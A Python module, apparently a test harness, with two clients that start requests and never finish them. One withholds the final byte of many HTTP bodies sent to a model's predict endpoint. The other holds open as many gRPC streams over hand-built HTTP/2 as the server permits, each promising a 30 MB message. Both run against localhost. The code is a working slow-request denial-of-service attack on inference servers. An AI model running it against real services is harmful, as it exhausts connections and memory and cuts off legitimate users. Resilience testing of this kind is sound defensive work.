"""Clients that begin and do not end: bodies over HTTP, and messages over gRPC as HTTP/2 frames of our own."""

import contextlib
import socket
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

_CALL = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/inference.GRPCInferenceService/ModelInfer"),
    (":authority", "attack"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)
_MESSAGE = 30 * 1024 * 1024
_PIECE = 16 * 1024


def hold_bodies(port: int, number: int, length: int, until: float) -> None:
    """Send all but the last byte of so many bodies, and wait."""
    head = b"POST /v1/models/bin-counter:predict HTTP/1.1\r\nHost: attack\r\nContent-Type: image/jpeg\r\n"
    held: list[socket.socket] = []
    for _ in range(number):
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", port), timeout=2)
            held.append(connection)
            connection.sendall(head + b"Content-Length: %d\r\n\r\n" % length)
            connection.sendall(bytes(length - 1))
    time.sleep(max(until - time.monotonic(), 0))
    for connection in held:
        connection.close()


def hold_calls(port: int, number: int, length: int, until: float) -> None:
    """Open so many calls on one connection, send `length` bytes of each message, and wait."""
    with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
        _hold_calls(port, number, length, until)


def _hold_calls(port: int, number: int, length: int, until: float) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        state = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        state.initiate_connection()
        connection.sendall(state.data_to_send())
        _pump(connection, state, 0.5)
        sent: dict[int, int] = {}
        for _ in range(min(number, state.remote_settings.max_concurrent_streams)):
            stream = state.get_next_available_stream_id()
            state.send_headers(stream, _CALL)
            state.send_data(stream, b"\0" + struct.pack(">I", _MESSAGE))
            sent[stream] = 0
        while time.monotonic() < until:
            for stream in list(sent):
                try:
                    while (window := min(state.local_flow_control_window(stream), _PIECE, length - sent[stream])) > 0:
                        state.send_data(stream, bytes(window))
                        sent[stream] += window
                except h2.exceptions.StreamClosedError:
                    del sent[stream]
            connection.settimeout(10)
            connection.sendall(state.data_to_send())
            _pump(connection, state, 0.05)


def _pump(connection: socket.socket, state: h2.connection.H2Connection, seconds: float) -> None:
    connection.settimeout(seconds)
    with contextlib.suppress(TimeoutError):
        state.receive_data(connection.recv(1024 * 1024))
